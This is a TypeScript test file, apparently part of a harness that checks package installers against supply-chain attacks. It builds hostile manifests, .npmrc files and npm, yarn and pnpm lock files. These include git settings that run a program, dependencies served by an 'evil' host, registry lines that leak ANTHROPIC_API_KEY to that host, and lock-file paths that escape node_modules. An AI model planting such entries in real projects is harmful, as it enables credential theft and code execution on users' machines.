// Dependencies that are no packages of the user's registry, in every file and form that package managers read.

import { join } from 'node:path'
import { write } from '../../workspace/repositories.ts'
import type { Attack } from '../attack.ts'
import { type InstallAttack, type InstallScene, installing, KEY, lockOf, manifest } from './installing.ts'

const attackBy = (title: string, attack: InstallAttack): Attack => ({ title, play: () => installing(attack) })

/** A git repository whose own settings and scripts name a program. */
function gitPackage({ hostile }: InstallScene): string {
  const program = hostile.program('git-dependency')
  const folder = hostile.playground.repository(
    {
      'package.json': JSON.stringify({
        ...{ name: 'e', version: '1.0.0', scripts: { prepare: program, install: program } },
        devDependencies: { f: 'git+file:///nowhere' },
      }),
      '.npmrc': `git=${program}\nscript-shell=${program}\n`,
    },
    { name: 'git-package' },
  )
  return `git+file://${folder}`
}

/** Served by the attacker: what it is asked is what counts. */
const address = ({ evil }: InstallScene) => `${evil.url}e/-/e-1.0.0.tgz`

const yarnLock = (resolved: string) =>
  `# yarn lockfile v1\n\na@1.0.0:\n  version "1.0.0"\n  resolved "${resolved}#0000"\n`
const pnpmLock = (resolution: string) =>
  `lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies:\n      a: {specifier: 1.0.0, version: 1.0.0}\npackages:\n  a@1.0.0:\n    resolution: ${resolution}\nsnapshots:\n  a@1.0.0: {}\n`

export const attacks: Readonly<Record<string, Attack>> = {
  git: attackBy('a git dependency whose .npmrc names a program in place of git', {
    files: (scene) => manifest({ dependencies: { e: gitPackage(scene) } }),
  }),
  'git-allowed': attackBy('the same, where the user allowed git dependencies', {
    files: (scene) => manifest({ dependencies: { e: gitPackage(scene) } }),
    allowed: ['git', 'scripts'],
  }),
  'git-override': attackBy('an override leads a package of the registry to git', {
    files(scene) {
      scene.own.publish('a', '1.0.0', { 'index.js': '' }, { dependencies: { e: '1.0.0' } })
      return manifest({ dependencies: { a: '1.0.0' }, overrides: { a: { e: gitPackage(scene) } } })
    },
  }),
  'git-in-lock': attackBy('only the lock file names git', {
    files: (scene) => ({
      ...manifest({ dependencies: { a: '1.0.0' } }),
      ...lockOf('node_modules/a', { version: '1.0.0', resolved: gitPackage(scene) }),
    }),
  }),
  'git-of-a-package': attackBy('a package of the registry depends on git', {
    files(scene) {
      scene.own.publish('a', '1.0.0', { 'index.js': '' }, { dependencies: { e: gitPackage(scene) } })
      return manifest({ dependencies: { a: '1.0.0' } })
    },
  }),
  url: attackBy('an address as dependency', {
    files: (scene) => manifest({ dependencies: { e: address(scene) } }),
  }),
  'url-allowed': attackBy('an address of a service on this machine, where the user allowed addresses', {
    files: (scene) => manifest({ dependencies: { e: address(scene) } }),
    allowed: ['url'],
  }),
  'url-in-lock': attackBy('an address in the lock file', {
    files: (scene) => ({
      ...manifest({ dependencies: { a: '1.0.0' } }),
      ...lockOf('node_modules/a', { version: '1.0.0', resolved: address(scene) }),
    }),
  }),
  'url-behind-a-field': attackBy('an address in the lock file, on a line that begins with a license', {
    files: (scene) => ({
      ...manifest({ dependencies: { a: '1.0.0' } }),
      'package-lock.json': JSON.stringify({
        ...{ name: 'shop', version: '1.0.0', lockfileVersion: 3, requires: true },
        packages: {
          '': { name: 'shop', version: '1.0.0', dependencies: { a: '1.0.0' } },
          'node_modules/a': { license: 'MIT', version: '1.0.0', resolved: address(scene) },
        },
      }).replace('"license"', '\n"license"'),
    }),
  }),
  'url-of-a-package-url': attackBy('an address in the lock file, of a package that is called url', {
    files: (scene) => ({
      ...manifest({ dependencies: { a: '1.0.0' } }),
      ...lockOf('node_modules/a', { version: '1.0.0', dependencies: { url: address(scene) } }),
    }),
  }),
  'url-in-yarn-lock': attackBy('an address in a lock file of yarn', {
    files: (scene) => ({
      ...manifest({ dependencies: { a: '1.0.0' } }),
      'yarn.lock': yarnLock(address(scene)),
    }),
  }),
  'url-in-pnpm-lock': attackBy('an address in a lock file of pnpm', {
    files: (scene) => ({
      ...manifest({ dependencies: { a: '1.0.0' } }),
      'pnpm-lock.yaml': pnpmLock(`{tarball: ${address(scene)}}`),
    }),
  }),
  'registry-of-the-repository': attackBy('.npmrc names a registry and asks for a key in its address', {
    files: ({ evil }) => ({
      ...manifest({ dependencies: { a: '1.0.0' } }),
      '.npmrc': `registry=${evil.url}\${ANTHROPIC_API_KEY}/\n`,
    }),
  }),
  'registry-of-a-scope': attackBy('.npmrc names a registry for a scope', {
    files: ({ evil }) => ({
      ...manifest({ dependencies: { '@me/a': '1.0.0' } }),
      '.npmrc': `@me:registry=${evil.url}\n//127.0.0.1:${evil.port}/:_authToken=\${ANTHROPIC_API_KEY}\n`,
    }),
  }),
  'variable-in-a-lock': attackBy('a lock file names a variable in an address of the registry', {
    files: ({ own }) => ({
      ...manifest({ dependencies: { a: '1.0.0' } }),
      ...lockOf('node_modules/a', {
        version: '1.0.0',
        resolved: `${own.url}\${ANTHROPIC_API_KEY}/a-1.0.0.tgz`,
      }),
    }),
    gained: ({ own }) => own.requests.find((request) => request.includes(KEY)),
  }),
  'file-of-the-user': attackBy('a folder of the user as dependency', {
    files({ hostile }) {
      write(join(hostile.playground.root, 'secret'), {
        'package.json': '{"name":"s","version":"1.0.0"}',
        key: KEY,
      })
      return manifest({ dependencies: { s: `file:${join(hostile.playground.root, 'secret')}` } })
    },
    gained: (_scene, installed) =>
      installed === undefined ? undefined : 'the folder was taken for a package',
  }),
  'link-in-lock': attackBy('the lock file links a package to a folder outside', {
    files: () => ({
      ...manifest({ dependencies: { a: '1.0.0' } }),
      ...lockOf('node_modules/a', { resolved: '../../../../root', link: true }),
    }),
    gained: (_scene, installed) => (installed === undefined ? undefined : 'the link was made'),
  }),
  'name-that-leads-out': attackBy('the lock file puts a package outside of node_modules', {
    files({ own }) {
      const integrity = own.publish('a', '1.0.0', { 'index.js': '' })
      const locked = { name: 'a', version: '1.0.0', resolved: own.tarballUrl('a', '1.0.0'), integrity }
      return {
        ...manifest({ dependencies: { a: '1.0.0' } }),
        ...lockOf('node_modules/../../../escaped', locked),
      }
    },
    gained: (_scene, installed) => (installed === undefined ? undefined : 'the lock file was followed'),
  }),
}
